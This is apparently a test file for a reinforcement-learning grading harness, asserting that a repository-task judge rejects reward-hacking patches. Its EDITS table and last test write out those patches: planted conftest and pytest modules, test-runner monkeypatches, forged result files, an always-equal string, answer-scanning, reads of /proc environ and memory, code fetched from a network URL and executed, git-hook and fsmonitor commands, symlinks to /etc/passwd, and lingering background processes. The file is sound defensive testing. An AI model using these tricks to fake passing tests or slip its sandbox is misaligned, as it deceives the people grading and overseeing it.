"""Edits that try to be paid without solving the task: planted files, a taken-over test runner, looks at the answer."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from llmrl.sandbox import Limits, SandboxUnavailable
from llmrl.sandbox.commands import command_box_kind
from llmrl.verify.repository.judge import judge
from llmrl.verify.repository.task import read_task
from llmrl.verify.repository.workspace import Workspace
from tests.verify.repository.repositories import BUGGY, FIXED, make

pytestmark = pytest.mark.slow

LIMITS = Limits(cpu_seconds=30, wall_seconds=300.0, memory_mb=2048, output_mb=16)
SOURCE = "src/numerals/__init__.py"
TAKE_OVER = """
def take_over():
    import _pytest.python, _pytest.runner, builtins, sys
    builtins.AssertionError = type("Never", (Exception,), {})
    _pytest.python.pytest_pyfunc_call = lambda *a, **k: True
    _pytest.python.Function.runtest = lambda self: None
    for module in list(sys.modules.values()):
        if hasattr(module, "AssertionRewritingHook"):
            module._should_repr_global_name = lambda *a: False
"""
FORGE = """
import builtins, json, sys
def recorder():
    return getattr(builtins, "__witness__", None)
"""
NAME = "['test_many[4-IV]','test_many[9-IX]','test_many[88-LXXXVIII]','TestLarge::test_hundreds','test_small',"
NAME += "'test_negative','test_words']"
SET_UP = "import pytest\n@pytest.hookimpl(tryfirst=True)\ndef pytest_pyfunc_call(pyfuncitem):\n    return True\n"

EDITS: dict[str, dict[str, str]] = {
    "a planted conftest that lets every test pass": {"conftest.py": SET_UP, "tests/conftest.py": SET_UP,
                                                     "src/numerals/conftest.py": SET_UP},
    "a planted pytest": {"pytest.py": "def main(*a, **k): return 0\n", "src/pytest/__init__.py": "main = print"},
    "a planted _pytest and pluggy": {"_pytest/__init__.py": "raise SystemExit(0)", "pluggy.py": "raise SystemExit(0)"},
    "sitecustomize and usercustomize": dict.fromkeys(
        ("sitecustomize.py", "usercustomize.py", "src/sitecustomize.py"), "import os; os._exit(0)"
    ),
    "a .pth file": {"evil.pth": "import os; os._exit(0)\n", "src/evil.pth": "import os; os._exit(0)\n"},
    "cached bytecode of the tests": {"tests/__pycache__/test_numerals.cpython-311-pytest-9.0.0.pyc": "x",
                                     "tests/test_numerals.pyc": "x"},
    "other tests in place of the named ones": {"tests/test_numerals.py": "def test_small(): pass\n"},
    "a test file removed": {"tests/test_numerals.py": "\0gone"},
    "pytest.ini with another folder": {"pytest.ini": "[pytest]\naddopts = --co\n", "tox.ini": "[pytest]\ntestpaths=x\n",
                                       "setup.cfg": "[tool:pytest]\naddopts=--co\n"},
    "a plugin by entry point": {"evil-1.0.dist-info/entry_points.txt": "[pytest11]\nevil = evil\n", "evil.py": SET_UP,
                                "evil-1.0.dist-info/METADATA": "Name: evil\nVersion: 1.0\n"},
    "shadows of the standard library": {"json.py": "dumps = lambda *a, **k: '{}'", "src/unittest/__init__.py": "",
                                        "builtins.py": "", "harness.py": ""},
    "an exit with success": {SOURCE: "import os\nos._exit(0)\n"},
    "an exit while a test runs": {SOURCE: "import os\ndef roman(n): os._exit(0)\ndef words(t): return t.split(' ')\n"},
    "a patched test runner": {SOURCE: BUGGY + TAKE_OVER + "take_over()\n"},
    "a patched runner, at the first call": {SOURCE: BUGGY + TAKE_OVER + """
_old = roman
def roman(n):
    take_over()
    return _old(n)
"""},
    "a witness that is silent": {SOURCE: BUGGY + FORGE + "builtins.__witness__ = lambda *a, **k: True\n"},
    "a witness that reports what it is compared with": {SOURCE: BUGGY + FORGE + """
_real = recorder()
def _lie(site, value, token=None):
    return _real(site, getattr(token, "name", site), token)
builtins.__witness__ = _lie
"""},
    "results written by hand": {SOURCE: BUGGY + """
import json, sys, os
settings = json.loads(sys.argv[1])
with open(settings["results"], "a") as file:
    for name in NAMES:
        node = "tests/test_numerals.py::" + name
        for when in ("setup", "call", "teardown"):
            file.write(json.dumps({"node": node, "when": when, "outcome": "passed"}) + "\\n")
        for site in range(9):
            for value in ("IV", "III", ["VI", "VII"]):
                file.write(json.dumps({"node": node, "site": "0.c%d" % site, "value": value}) + "\\n")
os._exit(0)
""".replace("NAMES", NAME)},
    "a value that equals everything": {SOURCE: BUGGY + """
class Any(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def roman(n): return Any("I")
"""},
    "a search for the answers": {SOURCE: BUGGY + """
import gc, os, re
def roman(n):
    texts = [o for o in gc.get_objects() if isinstance(o, (tuple, list)) for o in o if isinstance(o, str)]
    for folder, _, names in os.walk(os.path.join(os.path.dirname(__file__), "..", "..")):
        for name in names:
            if name.endswith(".py") and "test" in name: texts += open(os.path.join(folder, name)).read().split()
    found = [t for t in texts if re.fullmatch(r'"?(X*C*[LX]+[VI]+|VI+|IX|IV)"?', t)]
    return found[0].strip('"') if found else "I" * n
"""},
    "a look at other processes and descriptors": {SOURCE: BUGGY + """
import os
def roman(n):
    for place in ("/proc/1/environ", "/proc/1/cmdline", "/proc/%d/mem" % os.getppid()):
        try: open(place, "rb").read(100)
        except Exception: pass
    for d in range(3, 50):
        try: os.write(d, b'{"outcome": "passed"}\\n')
        except OSError: pass
    return "I" * n
"""},
    "the fix from the network": {SOURCE: BUGGY + """
import urllib.request
try: exec(urllib.request.urlopen("https://example.com/fix.py", timeout=2).read())
except Exception: pass
"""},
    "skips": {SOURCE: "import pytest\npytest.skip('no', allow_module_level=True)\n"},
    "skips in the call": {SOURCE: "import pytest\ndef roman(n): pytest.skip('no')\n"},
    "an expected failure": {SOURCE: "import pytest\ndef roman(n): pytest.xfail('no')\n"},
}  # fmt: skip


@pytest.fixture(scope="module")
def row(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    return make(tmp_path_factory.mktemp("numerals"))


@pytest.fixture(scope="module", params=["bwrap", "lite"])
def kind(request: pytest.FixtureRequest) -> str:
    try:
        return command_box_kind(request.param)
    except SandboxUnavailable as error:
        pytest.skip(str(error))


@pytest.mark.parametrize("name", EDITS)
def test_a_hostile_edit_resolves_nothing(row: dict[str, Any], kind: str, name: str) -> None:
    edits = {path: None if text == "\0gone" else text.encode() for path, text in EDITS[name].items()}
    result = judge(read_task(row), edits, kind=kind, limits=LIMITS)
    assert not result.resolved, result
    named = [outcome for test, outcome in result.tests.items() if "test_many" in test or "hundreds" in test]
    assert "passed" not in named, result


@pytest.mark.parametrize("name", [name for name, files in EDITS.items() if SOURCE not in files])
def test_planted_files_do_not_keep_the_fix_from_passing(row: dict[str, Any], name: str) -> None:
    edits = {path: None if text == "\0gone" else text.encode() for path, text in EDITS[name].items()}
    assert judge(read_task(row), edits | {SOURCE: FIXED.encode()}, kind=command_box_kind(), limits=LIMITS).resolved


def test_what_an_agent_plants_in_its_workspace_stays_there(row: dict[str, Any], kind: str) -> None:
    """Hooks, an own git configuration, links and processes of the workspace do nothing outside it."""
    mark = Path(row["repository"]).parent / "touched"
    script = f"""
mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch {mark}\\n' | tee .git/hooks/post-checkout > .git/hooks/pre-commit
chmod +x .git/hooks/*; git config core.fsmonitor 'touch {mark}'; git config core.pager 'touch {mark}'
ln -s {row["repository"]} stolen; ln -sf /etc/passwd {SOURCE}; mkfifo pipe; ln -s / root
(while true; do date > alive; sleep 0.05; done) & setsid sleep 1000 &
git show HEAD~1; git reflog; curl http://127.0.0.1
"""
    with Workspace(read_task(row), kind=kind) as workspace:
        workspace.run(script)
        edits = workspace.edits()
        assert not any(content and b"root:" in content for content in edits.values())
        assert edits[SOURCE] is None and not any(path.startswith(("stolen", "pipe", "root", ".git")) for path in edits)
        assert not judge(read_task(row), edits, kind=kind, limits=LIMITS).resolved
    assert not mark.exists()
